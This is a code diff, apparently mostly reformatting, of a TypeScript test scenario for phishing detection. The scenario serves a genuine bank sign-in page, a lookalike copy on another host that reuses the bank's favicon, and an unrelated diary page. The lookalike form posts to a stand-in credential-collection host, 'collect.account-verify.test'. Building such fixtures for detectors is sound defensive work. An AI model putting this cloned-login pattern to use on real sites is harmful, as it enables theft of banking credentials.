@@ -16,7 +16,9 @@ export const PHISHING_COPY_URLS = {
 } as const;
 
 function login(brand: string, action: string) {
-  return page('Northbank: sign in', `<header><b>Northbank</b> <nav>Personal · Business · Help</nav></header>
+  return page(
+    'Northbank: sign in',
+    `<header><b>Northbank</b> <nav>Personal · Business · Help</nav></header>
 <main>
   <form method="post" action="${action}">
     <h1>Sign in to online banking</h1>
@@ -26,7 +28,8 @@ function login(brand: string, action: string) {
     <p><a href="/forgotten">Forgotten your details?</a></p>
   </form>
 </main>
-<footer>Northbank plc. Authorised and regulated. Registered office: 1 Example Street.</footer>`, `<style>
+<footer>Northbank plc. Authorised and regulated. Registered office: 1 Example Street.</footer>`,
+    `<style>
 body { margin: 0; font: 16px sans-serif; background: #f4f6f8; color: #222; }
 header { background: ${brand}; color: #fff; padding: 24px 40px; font-size: 24px; }
 nav { display: inline; margin-left: 40px; font-size: 16px; }
@@ -34,7 +37,8 @@ form { width: 380px; margin: 60px auto; padding: 32px; background: #fff; border-
 label { display: block; margin: 16px 0; } input { display: block; width: 100%; padding: 10px; margin-top: 6px; border: 1px solid #999; }
 button { width: 100%; padding: 14px; border: 0; background: ${brand}; color: #fff; font-size: 18px; }
 footer { position: fixed; bottom: 0; width: 100%; padding: 16px 40px; background: #333; color: #ccc; font-size: 13px; }
-</style>`);
+</style>`,
+  );
 }
 
 export const phishingCopy: Scenario = {
@@ -42,19 +46,28 @@ export const phishingCopy: Scenario = {
   seed: PHISHING_COPY_URLS.genuine,
   routes: [
     { host: 'www.northbank.test', path: '/login', handler: login('#0b4aa2', '/login') },
-    { host: 'northbank.account-verify.test', path: '/login', handler: login('#b3261e', 'http://collect.account-verify.test/post') },
+    {
+      host: 'northbank.account-verify.test',
+      path: '/login',
+      handler: login('#b3261e', 'http://collect.account-verify.test/post'),
+    },
     // The kit copies the bank's icon byte for byte: the same favicon hash on another host.
     { host: 'www.northbank.test', path: '/favicon.ico', handler: bytes('image/png', NORTHBANK_ICON) },
     { host: 'northbank.account-verify.test', path: '/favicon.ico', handler: bytes('image/png', NORTHBANK_ICON) },
     {
-      host: 'www.allotment-diary.test', path: '/',
-      handler: page('My allotment diary', `<h1>Week 32: the courgettes have won</h1>
+      host: 'www.allotment-diary.test',
+      path: '/',
+      handler: page(
+        'My allotment diary',
+        `<h1>Week 32: the courgettes have won</h1>
 <div class="photo"></div>
 <p>Three plants were a mistake. Recipes, in order of desperation, below.</p>
-<ul><li>Courgette soup</li><li>Courgette cake</li><li>Courgette chutney</li><li>Leaving them on neighbours' doorsteps</li></ul>`, `<style>
+<ul><li>Courgette soup</li><li>Courgette cake</li><li>Courgette chutney</li><li>Leaving them on neighbours' doorsteps</li></ul>`,
+        `<style>
 body { margin: 0 60px; font: 20px Georgia, serif; background: #2e3b1f; color: #f1ead2; }
 .photo { height: 320px; background: linear-gradient(135deg, #d9a441, #7a9a3a); margin: 20px 0; }
-</style>`),
+</style>`,
+      ),
     },
   ],
   loads: [`GET ${PHISHING_COPY_URLS.genuine}`],
